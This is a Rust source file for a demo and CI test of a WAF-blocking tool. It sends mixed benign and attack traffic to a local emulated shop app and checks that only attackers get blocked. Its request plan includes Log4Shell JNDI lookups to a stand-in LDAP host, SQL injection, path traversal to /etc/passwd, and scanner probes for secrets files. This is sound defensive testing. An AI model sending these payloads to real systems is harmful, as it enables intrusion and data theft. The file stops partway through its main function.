//! The main job, end to end on one machine: `make demo` runs this through the `palisade-demo`
//! binary, and `tests/tests/demo.rs` runs it in CI and checks the outcome.
//!
//! What it sets up (everything is stopped and removed when [`run`] returns, also on failure or
//! Ctrl-C, because every piece is a guard that cleans up on drop):
//! - a real `nats-server` with JetStream on a free loopback port;
//! - the AWS WAFv2 emulator (moto) behind the fault-and-limits proxy that enforces AWS's
//!   documented limits (1 write/s), with what Terraform would create in AWS: an IPv4 and an IPv6
//!   IP set and a web ACL whose block rule references both;
//! - a network namespace joined to this host by a veth pair: the namespace plays the load
//!   balancer, the host plays the node running a small web app on the veth address;
//! - `palisade-blocker` with the AWS provider pointed at the emulator, and `palisade-sensor`
//!   with its eBPF program at the cgroup v2 root, the web app running as a "pod": a process in a
//!   cgroup laid out as containerd names a container, with the kubelet's log directories made
//!   for it, so reports name the pod and namespace (or TC on the veth; or, where eBPF is not
//!   permitted, reading the app's access log; or, in mirror mode, fed by an nginx in front of
//!   the app that includes the shipped `config/nginx/palisade-mirror.conf`, as the Fargate
//!   sidecar is; these sidecar modes name the pod from the Downward API's variables);
//! - a realistic mix of requests from made-up clients (documentation addresses) forwarded by
//!   the "load balancer" with `X-Forwarded-For`: browsing from most, attacks from a few.
//!
//! It then waits until every attacker's address is in the WAF IP sets (as GetIPSet returns
//! them) and reports the rule that caught each one, the time from its first attack to the block,
//! and that no benign client was blocked.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write as _;
use std::net::{IpAddr, SocketAddr};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{Context, bail};
use aws_config::{BehaviorVersion, Region};
use aws_sdk_wafv2::Client;
use aws_sdk_wafv2::error::ProvideErrorMetadata as _;
use aws_sdk_wafv2::types::{
    AllowAction, BlockAction, DefaultAction, IpAddressVersion, IpSetReferenceStatement,
    OrStatement, Rule, RuleAction, Scope, Statement, VisibilityConfig,
};
use serde::Serialize;
use serde_json::json;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpListener;
use tokio::process::{Child, Command};

use crate::moto::{FaultProxy, MotoServer, ProxyConfig};
use crate::nats::NatsServer;
use crate::netns::VethNamespace;

pub(crate) const REGION: &str = "us-east-1";
/// Port of the demo web app on the veth address.
const APP_PORT: u16 = 8080;
/// The pod the demo app plays: its namespace, name, UID, container and container id.
pub const DEMO_NAMESPACE: &str = "shop";
pub const DEMO_POD: &str = "web-6f7d9c8b5-q2x7k";
const DEMO_POD_UID: &str = "5d0c7f3e-2a4b-4c6d-9e8f-0a1b2c3d4e5f";
const DEMO_CONTAINER: &str = "web";
const DEMO_CONTAINER_ID: &str = "9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0";
/// How long the demo waits for every attacker to be blocked.
const BLOCK_DEADLINE: Duration = Duration::from_secs(60);
/// The made-up clients live in documentation ranges; the demo opts in to reporting and blocking
/// them (the sensor never reports and the blocker's guardrails refuse these ranges by default).
const DEMO_RANGES: [&str; 4] = [
    "192.0.2.0/24",
    "198.51.100.0/24",
    "203.0.113.0/24",
    "2001:db8::/32",
];

/// How the sensor sees traffic in this run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum SensorMode {
    /// eBPF at the cgroup v2 root (the sensor's default source): the app runs in a pod-like
    /// cgroup, and reports name its pod.
    Cgroup,
    /// eBPF TC program on the veth.
    Ebpf,
    /// The app's access log (where eBPF is not permitted).
    Log,
    /// nginx in front of the app with the shipped mirror snippet, the sensor in mirror mode
    /// (the Fargate sidecar; chosen explicitly, needs nginx).
    Mirror,
}

/// Options for [`run`].
#[derive(Debug, Clone)]
pub struct DemoOptions {
    /// Directory holding the `palisade-blocker` and `palisade-sensor` binaries.
    pub bin_dir: PathBuf,
    /// Force a sensor mode; `None` picks the cgroup source when eBPF can run here, else the log.
    pub mode: Option<SensorMode>,
    /// Print progress as it goes.
    pub verbose: bool,
    /// Run the sensor with the OWASP Core Rule Set in this directory beside its built-in rules.
    pub crs_dir: Option<PathBuf>,
}

/// One attacker in the outcome.
#[derive(Debug, Clone, Serialize)]
pub struct Attacker {
    pub client: IpAddr,
    /// What the demo sent.
    pub attack: String,
    /// Rules the blocker recorded as reasons.
    pub rules: Vec<String>,
    /// The pods it probed (`namespace/pod`), from the blocker's reasons.
    pub probed: Vec<String>,
    /// First attack sent -> address visible in GetIPSet, seconds (None if never blocked).
    pub seconds_to_block: Option<f64>,
}

/// What the demo observed.
#[derive(Debug, Clone, Serialize)]
pub struct DemoOutcome {
    pub mode: SensorMode,
    pub attackers: Vec<Attacker>,
    /// Benign clients and whether any of them ended up blocked (must be empty).
    pub benign_clients: usize,
    pub benign_blocked: Vec<IpAddr>,
    /// IP set contents as GetIPSet returns them, by set name.
    pub ip_sets: BTreeMap<String, Vec<String>>,
    /// Requests sent and answered.
    pub requests_sent: usize,
    pub requests_answered: usize,
    /// UpdateIPSet calls the blocker made through the proxy.
    pub update_calls: u64,
    /// Throttling errors AWS (the proxy) returned to the blocker.
    pub throttled: u64,
    /// What `palisade blocks list` printed against the running blocker at the end (`None`
    /// when the `palisade` binary was not built).
    pub cli_blocks: Option<String>,
}

impl DemoOutcome {
    /// Every attacker blocked and no benign client blocked?
    pub fn success(&self) -> bool {
        self.benign_blocked.is_empty()
            && self.attackers.iter().all(|a| a.seconds_to_block.is_some())
    }
}

/// One planned request.
#[derive(Debug, Clone, Serialize)]
struct PlannedRequest {
    client: String,
    method: &'static str,
    path: String,
    headers: BTreeMap<&'static str, String>,
    body: String,
    delay_ms: u64,
}

const BROWSER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36";

fn request(client: &str, method: &'static str, path: &str, ua: &str) -> PlannedRequest {
    let mut headers = BTreeMap::new();
    headers.insert("User-Agent", ua.to_string());
    headers.insert(
        "Accept",
        "text/html,application/json;q=0.9,*/*;q=0.8".to_string(),
    );
    PlannedRequest {
        client: client.to_string(),
        method,
        path: path.to_string(),
        headers,
        body: String::new(),
        delay_ms: 15,
    }
}

/// The attackers: (client, what it does, its requests).
fn attackers() -> Vec<(&'static str, &'static str, Vec<PlannedRequest>)> {
    let log4shell = "203.0.113.66";
    let sqli = "198.51.100.23";
    let traversal = "2001:db8:bad::7";
    let scanner = "203.0.113.201";
    let mut l4 = request(log4shell, "GET", "/api/products?page=2", BROWSER_UA);
    l4.headers.insert(
        "X-Api-Version",
        "${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/a}".to_string(),
    );
    let mut l4b = request(
        log4shell,
        "GET",
        "/",
        "${jndi:ldap://203.0.113.66:1389/Exploit}",
    );
    l4b.delay_ms = 200;
    vec![
        (
            log4shell,
            "Log4Shell (obfuscated JNDI lookup in a header)",
            vec![l4, l4b],
        ),
        (
            sqli,
            "SQL injection (UNION SELECT in a query parameter)",
            vec![
                request(
                    sqli,
                    "GET",
                    "/api/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
                    BROWSER_UA,
                ),
                request(sqli, "GET", "/api/products?id=1%20AND%201=1", BROWSER_UA),
                request(
                    sqli,
                    "GET",
                    "/api/products?id=1%27%20AND%20SLEEP(5)--%20-",
                    BROWSER_UA,
                ),
            ],
        ),
        (
            traversal,
            "path traversal (encoded ../../etc/passwd)",
            vec![
                request(
                    traversal,
                    "GET",
                    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
                    BROWSER_UA,
                ),
                request(
                    traversal,
                    "GET",
                    "/download?file=....//....//....//etc/passwd",
                    BROWSER_UA,
                ),
            ],
        ),
        (
            scanner,
            "vulnerability scanner (Nikto probing for secrets)",
            // What Nikto really sends: file probes, then XSS and traversal tests.
            [
                "/.env",
                "/.git/config",
                "/phpmyadmin/",
                "/?q=%3Cscript%3Ealert(42)%3C/script%3E",
                "/index.php?page=../../../../../../etc/passwd",
            ]
            .iter()
            .map(|p| {
                request(
                    scanner,
                    "GET",
                    p,
                    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
                )
            })
            .collect(),
        ),
    ]
}

/// Benign clients browsing the shop.
fn benign() -> Vec<(&'static str, Vec<PlannedRequest>)> {
    let clients = [
        "192.0.2.10",
        "192.0.2.11",
        "198.51.100.40",
        "203.0.113.15",
        "2001:db8:cafe::1",
        "2001:db8:cafe::2",
    ];
    let pages = [
        "/",
        "/products?category=union+select+committee+minutes",
        "/search?q=how+to+select+a+union+rep",
        "/blog/why-we-escape-%3Cscript%3E-tags",
        "/static/app.js",
        "/static/report..final.pdf",
        "/api/products?id=42&sort=price",
        "/account?name=O%27Brien",
        "/cart",
    ];
    clients
        .iter()
        .enumerate()
        .map(|(i, c)| {
            let mut reqs: Vec<PlannedRequest> = pages
                .iter()
                .cycle()
                .skip(i)
                .take(6)
                .map(|p| request(c, "GET", p, BROWSER_UA))
                .collect();
            let mut post = request(c, "POST", "/api/orders", BROWSER_UA);
            post.headers
                .insert("Content-Type", "application/json".to_string());
            post.body = format!(r#"{{"sku":"A-{i}","qty":1,"note":"leave at the door, thanks"}}"#);
            reqs.push(post);
            (*c, reqs)
        })
        .collect()
}

/// A std child process (the namespace helper builds std commands) that is killed and reaped
/// when dropped: on an error, Ctrl-C or SIGTERM the demo future is dropped, and the traffic
/// generator must not outlive it.
struct ChildGuard(std::process::Child);

impl Drop for ChildGuard {
    fn drop(&mut self) {
        if let Ok(None) = self.0.try_wait() {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
}

/// The demo app as `palisade-demo --serve-app ADDR --access-log FILE` runs it: in its own
/// process, so that it can live in a pod's cgroup (see [`PodApp`]).
pub async fn serve_app_on(addr: SocketAddr, access_log: PathBuf) -> anyhow::Result<()> {
    let listener = TcpListener::bind(addr)
        .await
        .with_context(|| format!("binding the demo app on {addr}"))?;
    serve_app(listener, access_log).await;
    Ok(())
}

/// The demo app run as a Kubernetes pod's container looks to a node: a process in a cgroup laid
/// out as containerd names a container under the systemd driver
/// (`kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod<uid>.slice/
/// cri-containerd-<id>.scope`, below a `palisade-demo-<pid>` cgroup of its own), and the
/// kubelet's `/var/log/pods` and `/var/log/containers` entries for it, in the demo's work dir.
/// The cgroup source names the pod from exactly these. Dropping it stops the app and removes
/// the cgroups.
struct PodApp {
    child: Option<std::process::Child>,
    top: PathBuf,
    /// The `pods` directory to give the sensor (`--pod-logs-dir`).
    pods_dir: PathBuf,
}

impl PodApp {
    fn start(
        bin_dir: &Path,
        addr: SocketAddr,
        access_log: &Path,
        work: &Path,
    ) -> anyhow::Result<PodApp> {
        let mount =
            crate::cgroup::cgroup2_mount().context("no cgroup2 hierarchy in /proc/mounts")?;
        let top = mount.join(format!("palisade-demo-{}", std::process::id()));
        let scope = top.join(format!(
            "kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{}.slice/\
             cri-containerd-{DEMO_CONTAINER_ID}.scope",
            DEMO_POD_UID.replace('-', "_")
        ));
        // From here on, dropping `app` removes what was made.
        let mut app = PodApp {
            child: None,
            top,
            pods_dir: work.join("pods"),
        };
        std::fs::create_dir_all(&scope)
            .with_context(|| format!("creating the pod's cgroup {}", scope.display()))?;
        std::fs::create_dir_all(
            app.pods_dir
                .join(format!("{DEMO_NAMESPACE}_{DEMO_POD}_{DEMO_POD_UID}"))
                .join(DEMO_CONTAINER),
        )?;
        let containers_dir = work.join("containers");
        std::fs::create_dir_all(&containers_dir)?;
        std::fs::write(
            containers_dir.join(format!(
                "{DEMO_POD}_{DEMO_NAMESPACE}_{DEMO_CONTAINER}-{DEMO_CONTAINER_ID}.log"
            )),
            b"",
        )?;
        // The app joins the cgroup before it opens its socket, as a container's process does.
        let child = crate::cgroup::command_in(&scope, bin_dir.join("palisade-demo").as_os_str())
            .arg("--serve-app")
            .arg(addr.to_string())
            .arg("--access-log")
            .arg(access_log)
            .stdin(Stdio::null())
            .spawn()
            .context("starting the demo app in its pod's cgroup")?;
        app.child = Some(child);
        let deadline = Instant::now() + Duration::from_secs(10);
        while std::net::TcpStream::connect_timeout(&addr, Duration::from_millis(200)).is_err() {
            if let Some(status) = app
                .child
                .as_mut()
                .map(|c| c.try_wait())
                .transpose()?
                .flatten()
            {
                bail!("the demo app exited ({status}) before listening on {addr}");
            }
            if Instant::now() > deadline {
                bail!("the demo app is not listening on {addr} after 10 s");
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        Ok(app)
    }
}

impl Drop for PodApp {
    fn drop(&mut self) {
        if let Some(child) = &mut self.child {
            let _ = child.kill();
            let _ = child.wait();
        }
        crate::cgroup::remove_tree(&self.top);
    }
}

/// Interleave the clients' requests the way real traffic arrives.
fn interleave(lists: Vec<Vec<PlannedRequest>>) -> Vec<PlannedRequest> {
    let mut iters: Vec<_> = lists.into_iter().map(|l| l.into_iter()).collect();
    let mut out = Vec::new();
    loop {
        let mut any = false;
        for it in iters.iter_mut() {
            if let Some(r) = it.next() {
                out.push(r);
                any = true;
            }
        }
        if !any {
            return out;
        }
    }
}

fn unix_ms() -> u128 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_millis())
        .unwrap_or(0)
}

fn say(verbose: bool, msg: impl std::fmt::Display) {
    if verbose {
        let mut out = std::io::stderr().lock();
        let _ = writeln!(out, "\x1b[1;34m[demo]\x1b[0m {msg}");
    }
}

/// A child process killed when dropped, with its log kept for error messages.
pub(crate) struct Service {
    name: &'static str,
    child: Child,
    log: PathBuf,
}

impl Service {
    pub(crate) async fn spawn(
        name: &'static str,
        mut cmd: Command,
        dir: &Path,
    ) -> anyhow::Result<Service> {
        let log = dir.join(format!("{name}.log"));
        let file = std::fs::File::create(&log).with_context(|| format!("creating {log:?}"))?;
        let err = file.try_clone()?;
        cmd.stdout(Stdio::from(file))
            .stderr(Stdio::from(err))
            .stdin(Stdio::null())
            .kill_on_drop(true);
        let child = cmd
            .spawn()
            .with_context(|| format!("starting {name} ({cmd:?})"))?;
        Ok(Service { name, child, log })
    }

    /// SIGKILL, and reap it: a crash, nothing gets to finish.
    pub(crate) async fn kill(&mut self) -> anyhow::Result<()> {
        self.child
            .kill()
            .await
            .with_context(|| format!("killing {}", self.name))
    }

    /// The last `lines` lines of its log.
    pub(crate) fn log_tail(&self, lines: usize) -> String {
        tail(&self.log, lines)
    }

    /// Its process id (while it runs).
    pub(crate) fn pid(&self) -> Option<u32> {
        self.child.id()
    }

    /// Fail with the tail of its log if it has exited.
    pub(crate) fn check_running(&mut self) -> anyhow::Result<()> {
        if let Ok(Some(status)) = self.child.try_wait() {
            bail!("{} exited ({status}):\n{}", self.name, tail(&self.log, 30));
        }
        Ok(())
    }

    /// SIGTERM, then wait for a clean exit (the services exit 0 on SIGTERM).
    pub(crate) async fn stop(mut self) -> anyhow::Result<()> {
        if let Some(pid) = self.child.id() {
            let _ = crate::signal(pid, "-TERM");
        }
        match tokio::time::timeout(Duration::from_secs(10), self.child.wait()).await {
            Ok(Ok(status)) if status.success() => Ok(()),
            Ok(Ok(status)) => bail!("{} exited with {status} on SIGTERM", self.name),
            Ok(Err(e)) => Err(e.into()),
            Err(_) => bail!("{} did not stop within 10 s of SIGTERM", self.name),
        }
    }
}

fn tail(path: &Path, lines: usize) -> String {
    let text = std::fs::read_to_string(path).unwrap_or_default();
    let all: Vec<&str> = text.lines().collect();
    all[all.len().saturating_sub(lines)..].join("\n")
}

/// A minimal web app: answers every request, and appends an nginx `combined`-style access-log
/// line with the forwarded client (for the log-source mode). Runs until the task is aborted.
async fn serve_app(listener: TcpListener, access_log: PathBuf) {
    loop {
        let Ok((mut sock, peer)) = listener.accept().await else {
            continue;
        };
        let log = access_log.clone();
        tokio::spawn(async move {
            let mut buf = Vec::with_capacity(2048);
            let mut chunk = [0u8; 2048];
            // Read the head (and whatever body came with it); the demo's requests are small.
            let head_end = loop {
                match tokio::time::timeout(Duration::from_secs(5), sock.read(&mut chunk)).await {
                    Ok(Ok(0)) | Ok(Err(_)) | Err(_) => return,
                    Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
                }
                if let Some(p) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                    break p;
                }
                if buf.len() > 64 * 1024 {
                    return;
                }
            };
            let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
            let mut lines = head.split("\r\n");
            let request_line = lines.next().unwrap_or_default().to_string();
            let mut ua = "-".to_string();
            let mut xff = "-".to_string();
            for line in lines {
                if let Some((k, v)) = line.split_once(':') {
                    match k.trim().to_ascii_lowercase().as_str() {
                        "user-agent" => ua = v.trim().to_string(),
                        "x-forwarded-for" => xff = v.trim().to_string(),
                        _ => {}
                    }
                }
            }
            let path = request_line.split(' ').nth(1).unwrap_or("/");
            let (status, body) = if path == "/" || path.starts_with("/products") {
                (200, "<html><body><h1>Demo shop</h1></body></html>")
            } else if path.starts_with("/api/") {
                (200, "{\"ok\":true}")
            } else {
                (404, "not found")
            };
            let reply = format!(
                "HTTP/1.1 {status} {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                if status == 200 { "OK" } else { "Not Found" },
                body.len()
            );
            let _ = sock.write_all(reply.as_bytes()).await;
            let _ = sock.shutdown().await;
            // JSON access-log line, envoy style, with the forwarded-for header.
            let line = json!({
                "start_time": chrono_like_now(),
                "downstream_remote_address": peer.to_string(),
                "method": request_line.split(' ').next().unwrap_or("-"),
                "path": path,
                "protocol": "HTTP/1.1",
                "response_code": status,
                "user_agent": ua,
                "x_forwarded_for": xff,
            });
            if let Ok(mut f) = std::fs::OpenOptions::new()
                .create(true)
                .append(true)
                .open(&log)
            {
                let _ = writeln!(f, "{line}");
            }
        });
    }
}

/// RFC 3339 UTC timestamp without pulling in a date crate.
pub(crate) fn chrono_like_now() -> String {
    let secs = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0);
    let days = secs / 86_400;
    let rem = secs % 86_400;
    // Civil from days (Howard Hinnant's algorithm).
    let z = days as i64 + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z",
        rem / 3600,
        (rem % 3600) / 60,
        rem % 60
    )
}

fn visibility(name: &str) -> anyhow::Result<VisibilityConfig> {
    Ok(VisibilityConfig::builder()
        .sampled_requests_enabled(true)
        .cloud_watch_metrics_enabled(true)
        .metric_name(name)
        .build()?)
}

/// The emulated AWS side: moto behind the AWS-limits proxy, an SDK client that talks to moto
/// directly (not counted, never throttled), and what `terraform/` creates in it.
pub(crate) struct Waf {
    pub(crate) proxy: FaultProxy,
    pub(crate) admin: Client,
    pub(crate) v4_arn: String,
    pub(crate) v6_arn: String,
    pub(crate) acl_arn: String,
    // Dropped last: the proxy forwards to it.
    _moto: MotoServer,
}

impl Waf {
    pub(crate) async fn start() -> anyhow::Result<Waf> {
        let moto = MotoServer::start().await?;
        let proxy = FaultProxy::start(moto.endpoint(), ProxyConfig::default()).await?;
        let sdk = aws_config::defaults(BehaviorVersion::latest())
            .test_credentials()
            .region(Region::new(REGION))
            .load()
            .await;
        let admin = Client::from_conf(
            aws_sdk_wafv2::config::Builder::from(&sdk)
                .endpoint_url(moto.endpoint())
                .build(),
        );
        let (v4_arn, v6_arn, acl_arn) = create_waf(&admin).await?;
        Ok(Waf {
            proxy,
            admin,
            v4_arn,
            v6_arn,
            acl_arn,
            _moto: moto,
        })
    }

    /// What a blocker needs to reach the sets (through the proxy).
    pub(crate) fn arns(&self) -> WafArns {
        WafArns {
            v4: self.v4_arn.clone(),
            v6: self.v6_arn.clone(),
            endpoint: self.proxy.endpoint(),
        }
    }

    /// Every entry of both IP sets, read from moto directly (not counted, never throttled).
    pub(crate) async fn entries(&self) -> anyhow::Result<BTreeSet<String>> {
        let mut all = BTreeSet::new();
        for arn in [&self.v4_arn, &self.v6_arn] {
            all.extend(get_ip_set(&self.admin, arn).await?.1);
        }
        Ok(all)
    }
}

/// The ARNs and endpoint [`blocker_command`] needs, detached from the [`Waf`].
#[derive(Debug, Clone)]
pub(crate) struct WafArns {
    pub(crate) v4: String,
    pub(crate) v6: String,
    pub(crate) endpoint: String,
}

/// `palisade-blocker` with the AWS provider pointed at the emulator (through the proxy),
/// allowed to block the given special-purpose ranges (comma separated).
pub(crate) fn blocker_command(
    bin: &Path,
    nats_url: &str,
    admin_port: u16,
    state_dir: &Path,
    waf: &WafArns,
    allow_special: &str,
    log_level: &str,
) -> Command {
    let mut cmd = Command::new(bin);
    cmd.arg("--nats-url")
        .arg(nats_url)
        .arg("--admin-listen")
        .arg(format!("127.0.0.1:{admin_port}"))
        .arg("--state-dir")
        .arg(state_dir)
        .args(["--provider", "aws"])
        .arg("--ipset-arn")
        .arg(&waf.v4)
        .arg("--ipset-arn")
        .arg(&waf.v6)
        .arg("--aws-endpoint-url")
        .arg(&waf.endpoint)
        .arg("--allow-special")
        .arg(allow_special)
        .env("AWS_ACCESS_KEY_ID", "palisade-local")
        .env("AWS_SECRET_ACCESS_KEY", "palisade-local")
        .env("AWS_REGION", REGION)
        .env("RUST_LOG", log_level);
    cmd
}

/// Create what `terraform/` creates in AWS: two IP sets and a web ACL blocking them.
async fn create_waf(admin: &Client) -> anyhow::Result<(String, String, String)> {
    let mut arns = Vec::new();
    for (name, version) in [
        ("palisade-demo-v4", IpAddressVersion::Ipv4),
        ("palisade-demo-v6", IpAddressVersion::Ipv6),
    ] {
        let out = admin
            .create_ip_set()
            .name(name)
            .scope(Scope::Regional)
            .ip_address_version(version)
            .description("Addresses blocked by Palisade (managed at runtime)")
            .set_addresses(Some(Vec::new()))
            .send()
            .await
            .with_context(|| format!("CreateIPSet {name}"))?;
        let arn = out
            .summary
            .and_then(|s| s.arn)
            .context("CreateIPSet returned no ARN")?;
        arns.push(arn);
    }
    let reference = |arn: &str| -> anyhow::Result<Statement> {
        Ok(Statement::builder()
            .ip_set_reference_statement(IpSetReferenceStatement::builder().arn(arn).build()?)
            .build())
    };
    let rule = Rule::builder()
        .name("palisade-block")
        .priority(0)
        .action(
            RuleAction::builder()
                .block(BlockAction::builder().build())
                .build(),
        )
        .statement(
            Statement::builder()
                .or_statement(
                    OrStatement::builder()
                        .statements(reference(&arns[0])?)
                        .statements(reference(&arns[1])?)
                        .build()?,
                )
                .build(),
        )
        .visibility_config(visibility("palisade-block")?)
        .build()?;
    let acl = admin
        .create_web_acl()
        .name("palisade-demo")
        .scope(Scope::Regional)
        .default_action(
            DefaultAction::builder()
                .allow(AllowAction::builder().build())
                .build(),
        )
        .rules(rule)
        .visibility_config(visibility("palisade-demo")?)
        .send()
        .await
        .context("CreateWebACL")?;
    let acl_arn = acl
        .summary
        .and_then(|s| s.arn)
        .context("CreateWebACL returned no ARN")?;
    Ok((arns[0].clone(), arns[1].clone(), acl_arn))
}

pub(crate) fn name_and_id(arn: &str) -> anyhow::Result<(String, String)> {
    let mut parts = arn.rsplit('/');
    let id = parts.next().context("ARN without id")?.to_string();
    let name = parts.next().context("ARN without name")?.to_string();
    Ok((name, id))
}

/// Addresses of one IP set as GetIPSet returns them.
pub(crate) async fn get_ip_set(admin: &Client, arn: &str) -> anyhow::Result<(String, Vec<String>)> {
    let (name, id) = name_and_id(arn)?;
    let out = admin
        .get_ip_set()
        .name(&name)
        .id(id)
        .scope(Scope::Regional)
        .send()
        .await
        .context("GetIPSet")?;
    let addresses = out
        .ip_set
        .map(|s| s.addresses().to_vec())
        .unwrap_or_default();
    Ok((name, addresses))
}

/// Edit a set behind the blocker's back, as an operator or another tool would: read, modify,
/// write, retried on lock conflicts. Talks to moto directly (not counted, never throttled).
/// Returns how many lock conflicts it met.
pub async fn foreign_edit(
    admin: &Client,
    arn: &str,
    add: &[String],
    remove: &[String],
) -> anyhow::Result<u32> {
    let (name, id) = name_and_id(arn)?;
    let mut conflicts = 0;
    loop {
        let out = admin
            .get_ip_set()
            .name(&name)
            .id(&id)
            .scope(Scope::Regional)
            .send()
            .await
            .context("GetIPSet (foreign writer)")?;
        let set = out.ip_set.context("GetIPSet without an IPSet")?;
        let mut list: Vec<String> = set
            .addresses()
            .iter()
            .filter(|a| !remove.contains(a))
            .cloned()
            .collect();
        for a in add {
            if !list.contains(a) {
                list.push(a.clone());
            }
        }
        let res = admin
            .update_ip_set()
            .name(&name)
            .id(&id)
            .scope(Scope::Regional)
            .set_description(set.description().map(str::to_string))
            .set_addresses(Some(list))
            .lock_token(out.lock_token.context("GetIPSet without a lock token")?)
            .send()
            .await;
        match res {
            Ok(_) => return Ok(conflicts),
            Err(e) if e.code() == Some("WAFOptimisticLockException") => {
                conflicts += 1;
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            Err(e) => bail!("foreign UpdateIPSet: {e:?}"),
        }
    }
}

/// The entry the blocker writes for a client at its default prefixes: the IPv4 address alone,
/// the IPv6 address's /64 (`policy.ipv6_prefix_len`).
pub(crate) fn host_prefix(ip: IpAddr) -> String {
    match ip {
        IpAddr::V4(v4) => format!("{v4}/32"),
        IpAddr::V6(v6) => {
            let s = v6.segments();
            let net = std::net::Ipv6Addr::new(s[0], s[1], s[2], s[3], 0, 0, 0, 0);
            format!("{net}/64")
        }
    }
}

/// Run the demo. See the module docs.
pub async fn run(opts: DemoOptions) -> anyhow::Result<DemoOutcome> {
    let v = opts.verbose;
    let blocker_bin = opts.bin_dir.join("palisade-blocker");
    let sensor_bin = opts.bin_dir.join("palisade-sensor");
    for bin in [&blocker_bin, &sensor_bin] {
        if !bin.exists() {
            bail!("{bin:?} is missing: build first (cargo build --release --bins)");
        }
    }
    // The namespace is needed in both modes (it plays the load balancer).
    if let Some(reason) = crate::netns::skip_reason() {
        bail!("the demo needs root and network namespaces: {reason}");
    }
    let work = tempfile::Builder::new()
        .prefix("palisade-demo-")
        .tempdir()
        .context("creating the demo's work dir")?;

    say(
        v,
        "starting nats-server (JetStream) on a free loopback port",
    );
    let nats = NatsServer::start().await?;
    say(
        v,
        "starting the AWS WAFv2 emulator (moto) behind the AWS-limits proxy",
    );
    let waf = Waf::start().await?;
    let (v4_arn, v6_arn, acl_arn) = (&waf.v4_arn, &waf.v6_arn, &waf.acl_arn);
    let admin = &waf.admin;
    say(v, format!("created IP sets {v4_arn} and {v6_arn}"));
    say(
        v,
        format!("created web ACL {acl_arn} (rule palisade-block)"),
    );

    say(
        v,
        "creating the network namespace and veth pair (the load balancer side)",
    );
    let ns = VethNamespace::create()?;
    let app_addr = SocketAddr::new(IpAddr::V4(ns.host_addr), APP_PORT);
    let access_log = work.path().join("access.log");
    std::fs::File::create(&access_log)?;
    // Mirror mode: nginx takes the app's address and proxies to the app on loopback, mirroring
    // every request to the sensor (the pod's proxy on Fargate).
    let mirror_port = match opts.mode {
        Some(SensorMode::Mirror) => Some(crate::free_port()?),
        _ => None,
    };
    let app_listen = match mirror_port {
        Some(_) => SocketAddr::from(([127, 0, 0, 1], 0)),
        None => app_addr,
    };
    // The cgroup source (and the default, which tries it first) needs the app in a pod's
    // cgroup: its own process. The other modes run it in this one.
    let pod = match opts.mode {
        Some(SensorMode::Cgroup) => Some(PodApp::start(
            &opts.bin_dir,
            app_listen,
            &access_log,
            work.path(),
        )?),
        // The default tries; without a writable cgroup2 hierarchy the app runs here and the
        // sensor falls back as it can.
        None => match PodApp::start(&opts.bin_dir, app_listen, &access_log, work.path()) {
            Ok(pod) => Some(pod),
            Err(err) => {
                say(
                    v,
                    format!("the app cannot run as a pod here ({err:#}); running it in-process"),
                );
                None
            }
        },
        Some(_) => None,
    };
    let (app, pod_app, app_local) = if let Some(pod) = pod {
        say(
            v,
            format!(
                "demo web app listening on {app_listen} as pod {DEMO_NAMESPACE}/{DEMO_POD} \
                 (cgroup {})",
                pod.top.display()
            ),
        );
        (None, Some(pod), app_listen)
    } else {
        let listener = TcpListener::bind(app_listen)
            .await
            .with_context(|| format!("binding the demo app on {app_listen}"))?;
        let app_local = listener.local_addr()?;
        let app = tokio::spawn(serve_app(listener, access_log.clone()));
        say(v, format!("demo web app listening on {app_local}"));
        (Some(app), None, app_local)
    };
    let _nginx = match mirror_port {
        Some(port) => {
            let (http, include) = crate::nginx::shipped_mirror(port)?;
            let nginx = crate::nginx::Nginx::start_on(
                app_addr,
                &http,
                &format!("{include}\n        location / {{ proxy_pass http://{app_local}; }}"),
            )
            .context("starting nginx with the mirror snippet (scripts/setup.sh installs nginx)")?;
            say(
                v,
                format!("nginx on {app_addr} (mirror to 127.0.0.1:{port}) -> app on {app_local}"),
            );
            Some(nginx)
        }
        None => None,
    };

    let admin_port = crate::free_port()?;
    let admin_url = format!("http://127.0.0.1:{admin_port}");
    let blocker_cmd = blocker_command(
        &blocker_bin,
        &nats.url(),
        admin_port,
        &work.path().join("blocker-state"),
        &waf.arns(),
        &DEMO_RANGES.join(","),
        "info",
    );
    say(v, "starting palisade-blocker (AWS provider -> emulator)");
    let mut blocker = Service::spawn("blocker", blocker_cmd, work.path()).await?;

    // The sensor: the chosen source, or eBPF first and the access log if eBPF is not permitted
    // here (the sensor exits with a hint when it cannot attach).
    let sensor_command = |mode: SensorMode, metrics_port: u16| {
        let mut cmd = Command::new(&sensor_bin);
